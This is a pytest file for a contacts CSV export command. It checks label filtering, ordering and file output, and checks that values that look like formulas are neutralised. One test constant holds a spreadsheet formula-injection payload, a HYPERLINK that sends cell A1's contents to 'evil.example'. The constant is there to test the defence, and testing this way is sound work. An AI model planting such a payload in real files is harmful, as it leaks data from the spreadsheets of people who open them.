"""`jobgate export contacts --label NAME`: outreach CSV, run as the operator runs it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from bot.clock import SystemClock
from bot.models import Kind, Via
from bot.submissions import EmployerSubmission, JobSubmission
from storage.db import Database
from storage.deliveries import StoredAnswer
from storage.repository import Repository
from tests.harness import employer, job
from tests.test_cli import jobgate

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


async def prepare(path: Path) -> None:
    """Three employers and their contacts, labelled through the repository."""
    db = await Database.open(path)
    repo = Repository(db)
    now = SystemClock().now()
    employers = [
        employer(
            "emp_1",
            name="Acme Analytics",
            contact={
                "id": "c_1",
                "name": "Jane Roe",
                "email": "jane@acme.example",
                "phone": "+1 512 555 0100",
            },
        ),
        employer(
            "emp_2",
            name="Globex",
            contact={"id": "c_2", "name": HOSTILE_NAME, "email": "x@globex.example"},
        ),
        employer(
            "emp_3",
            name="Initech",
            contact={"id": "c_3", "name": "Bill Lumbergh", "email": "bill@initech.example"},
        ),
    ]
    jobs = [
        job(
            "job_1",
            employer_id="emp_1",
            contact={"id": "c_4", "name": "Ann Lee", "email": "ann@acme.example"},
        )
    ]
    try:
        for kind, items in (
            (Kind.EMPLOYER, [EmployerSubmission.model_validate(e) for e in employers]),
            (Kind.JOB, [JobSubmission.model_validate(j) for j in jobs]),
        ):
            await repo.ingest_submissions(
                kind,
                items,
                webhook_id=None,
                endpoint="test",
                respond=lambda _: StoredAnswer(200, {}),
                now=now,
            )

        async def label(owner: str, owner_id: int, name: str) -> None:
            await repo.change_label(
                owner, owner_id, name, add=True, actor="UADMIN0001", via=Via.COMMAND, now=now
            )

        acme = (await repo.find_employers("emp_1"))[0]
        await label("employer", acme.id, "Sponsor employer")
        for contact in ("c_2", "c_1"):
            await label("contact", (await repo.find_contacts(contact))[0].id, "sponsor EMPLOYER")
        await label("contact", (await repo.find_contacts("bill@initech.example"))[0].id, "Alumni")
    finally:
        await db.close()


async def test_export_writes_contacts_with_the_label_or_whose_employer_has_it(
    tmp_path: Path,
) -> None:
    await prepare(tmp_path / "j.db")
    done = jobgate("export", "contacts", "--label", "sponsor employer", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert [r["contact_id"] for r in rows] == ["c_4", "c_1", "c_2"]  # by employer, then name
    jane = rows[1]
    assert jane == {
        "name": "Jane Roe",
        "email": "jane@acme.example",
        "phone": "'+1 512 555 0100",
        "employer": "Acme Analytics",
        "employer_id": "emp_1",
        "contact_id": "c_1",
        "labels": "Sponsor employer",
    }
    assert rows[0]["labels"] == "Sponsor employer"  # through its employer only
    # a formula in a name is shown as text, never run by the spreadsheet
    assert rows[2]["name"] == "'" + HOSTILE_NAME
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


async def test_export_to_a_file(tmp_path: Path) -> None:
    await prepare(tmp_path / "j.db")
    done = jobgate("export", "contacts", "--label", "Alumni", "--output", "out.csv", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "Wrote 1 contact(s)" in done.stderr and done.stdout == ""
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [(r["name"], r["labels"]) for r in rows] == [("Bill Lumbergh", "Alumni")]


async def test_an_unknown_label_exits_1_and_says_which_exist(tmp_path: Path) -> None:
    await prepare(tmp_path / "j.db")
    done = jobgate("export", "contacts", "--label", "Golden", cwd=tmp_path)
    assert done.returncode == 1 and done.stdout == ""
    assert "there is no label “Golden”" in done.stderr and "“White Glove”" in done.stderr
    elsewhere = {"JOBGATE_DATABASE": str(tmp_path / "none.db")}
    missing = jobgate("export", "contacts", "--label", "Alumni", cwd=tmp_path, env=elsewhere)
    assert missing.returncode == 1 and "there is no database" in missing.stderr


def test_help_says_who_is_exported_and_how_formulas_are_neutralized(tmp_path: Path) -> None:
    done = jobgate("export", "contacts", "--help", cwd=tmp_path)
    assert done.returncode == 0
    text = " ".join(done.stdout.split())
    assert "every contact of an employer carrying it" in text
    assert "leading apostrophe" in text
